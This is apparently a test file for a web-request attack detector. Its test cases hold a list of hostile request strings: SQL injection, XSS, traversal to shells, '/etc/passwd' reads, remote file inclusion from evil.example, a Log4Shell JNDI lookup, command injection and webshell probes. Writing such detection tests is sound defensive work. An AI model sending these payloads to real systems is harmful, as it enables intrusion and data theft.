import { describe, expect, it } from 'vitest';
import { attacksIn } from '../model/attack-set.ts';
import { CLEAN } from './combine-signs.ts';
import { inspectRequest } from './inspect-request.ts';
import { getRequest } from './testing/get-request.ts';

const attacks = (...request: Parameters<typeof getRequest>) =>
  attacksIn(inspectRequest(getRequest(...request)).attacks);

describe('inspectRequest', () => {
  it('gives the one clean inspection when nothing is found', () => {
    expect(inspectRequest(getRequest('/products/list?category_id=3&orderby=2'))).toBe(CLEAN);
    expect(inspectRequest(getRequest('', { method: '', protocol: '' }))).toBe(CLEAN);
  });

  it.each([
    ['sqli', '/item?id=1%27%20or%201=1--'],
    ['sqli', '/item?1+or+1=1'],
    ['sqli', "/item/1'%20or%201=1--"],
    ['sqli', '/item?name=O%27Neil&id=1+union+select+1,2'],
    ['xss', '/?%3Cscript%3Ealert(1)%3C/script%3E'],
    ['xss', '/a/\\"><script>alert(1)</script>'],
    ['traversal', '/cgi-bin/.%2e/.%2e/.%2e/bin/sh'],
    ['traversal', '/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir'],
    ['rce', '/;cat%20/etc/passwd'],
    ['rfi', '/index.php?page=http://evil.example/x.txt'],
    ['rfi', '/index.php?config[%22dir%22]=http://evil.example/x.txt?'],
    ['ssrf', '/proxy?url=http://169.254.169.254/'],
    ['ssti', '/?q=%7B%7B7*7%7D%7D'],
    ['xxe', '/?x=%3C!DOCTYPE%20x%20[%3C!ENTITY%20e%20SYSTEM%20%22file:///a%22%3E]%3E'],
    ['crlf', '/a%0d%0aSet-Cookie:%20a=b'],
    ['deserialization', '/?__proto__[x]=1'],
    ['webshell', '/upload/save_image/a.php?cmd=id'],
    ['upload', '/upload?name=a.php.jpg'],
    ['scanner', '/?q=http://x.oastify.com/'],
    ['probe', '/.git/config'],
    ['sqli', '/item?id=1%27%20or%201=1%00'],
    ['traversal', '/item?id=a.jpg%00'],
    ['protocol', `/${'a'.repeat(40_000)}`],
  ] as const)('finds %s in a target', (attack, target) => {
    expect(attacks(target)).toContain(attack);
  });

  it('calls a NUL behind a query no way to a file', () => {
    expect(attacks('/item?id=1%27%20or%201=1%00')).not.toContain('traversal');
  });

  it('judges Referer, User-Agent, method and protocol in their own ways', () => {
    expect(attacks('/', { userAgent: '${jndi:ldap://192.0.2.1/a}' })).toEqual(['rce']);
    expect(attacks('/', { userAgent: 'sqlmap/1.7' })).toEqual(['scanner']);
    expect(attacks('/', { referer: "https://shop.example/?q=1'+or+'1'='1" })).toEqual(['sqli']);
    expect(attacks('/', { referer: "https://www.google.com/search?q=1'+or+'1'='1" })).toEqual([]);
    expect(attacks('/', { referer: 'https://shop.example/.git/config' })).toEqual([]);
    expect(attacks('/', { referer: '$(ping${IFS}-c2${IFS}192.0.2.1)' })).toEqual(['rce']);
    expect(attacks('/', { referer: 'shop.example/search?q=a&b=c; d' })).toEqual([]);
    expect(attacks('/a.jsp', { method: 'PUT', status: 201 })).toEqual(['upload']);
    expect(attacks('/', { method: 'TRACE' })).toEqual(['method-abuse']);
  });

  it('counts a probe for another product only when the server refuses it', () => {
    expect(attacks('/img/a.jpg.php', { status: 404 })).toContain('webshell');
    expect(attacks('/img/a.jpg.php', { status: 200 })).toEqual([]);
    expect(attacks('/wp-login.php', { status: 404 })).toEqual(['probe']);
    expect(attacks('/wp-login.php', { status: 200 })).toEqual([]);
    expect(attacks('/wp-login.php', { status: 500 })).toEqual([]);
    expect(attacks('/wp-login.php', { status: -1 })).toEqual([]);
  });

  it('says the highest level, and where each sign was found', () => {
    const { level, signs } = inspectRequest(getRequest('/.git/config?q=%3C?php+system(%27id%27);'));
    expect(level).toBe('critical');
    expect(signs.map(({ place }) => place)).toEqual(expect.arrayContaining(['path', 'query-value']));
  });

  it('shows at most 512 characters of what it found', () => {
    const { signs } = inspectRequest(getRequest(`/?q=%27+or+1=1--${'a'.repeat(3000)}`));
    expect(signs.length).toBeGreaterThan(0);
    for (const { value } of signs) expect(value.length).toBeLessThanOrEqual(512);
  });

  it('leaves broken links, feeds and directory listings alone', () => {
    for (const target of [
      '/?flav=rss20',
      '/scripts/?C=M;O=A',
      '/feed?utm_campaign=Feed%3A+a%2Fb+%28shop.example+-+Taro+Mihon%29',
      '/scripts//%22$%7BLOCATION%7D/view.php?file=$%7Blink%7D%5C%22',
      '/a/%22file://$file/%22',
      '/blog/tags/script',
      '/font.ttf)%20format(%22truetype%22',
      '/a/javascript:void(0)',
      '/{{product.url}}',
      '/../css/a.css',
    ]) {
      expect([target, attacks(target, { status: 404 })]).toEqual([target, []]);
    }
  });

  it('judges what stands behind a bare # in a path, which no browser sends', () => {
    const { signs } = inspectRequest(getRequest('/${(#a=@java.lang.Runtime@getRuntime().exec(1))}/'));
    expect(signs.map(({ attack }) => attack)).toContain('rce');
  });

  it("takes a file manager's own list of a folder for no command", () => {
    expect(attacks('/elfinder/connector?cmd=ls&target=l1_aW1hZ2Vz&intersect%5B%5D=a.png')).toEqual([]);
    for (const talk of ['cmd=ls', 'cmd=ls&target=x', 'cmd=id&target=l1_Lw', 'cmd=ls+-la&target=l1_Lw']) {
      expect([talk, attacks(`/a.php?${talk}`)]).toEqual([talk, expect.arrayContaining(['webshell'])]);
    }
  });

  it('reads a numeric entity whole, which a server would cut at its ampersand', () => {
    const { attacks } = inspectRequest(getRequest('/a?q=<img src=&#106;&#97;vascript:alert(1)>'));
    expect(attacksIn(attacks)).toContain('xss');
    expect(inspectRequest(getRequest('/?p=1&#038;preview=true')).attacks).toBe(0);
  });

  it('finds what hides behind a megabyte of padding', () => {
    const padding = 'a'.repeat(1 << 19);
    expect(attacks(`/?q=${padding}%27+or+1=1--+${padding}`)).toContain('sqli');
  });
});
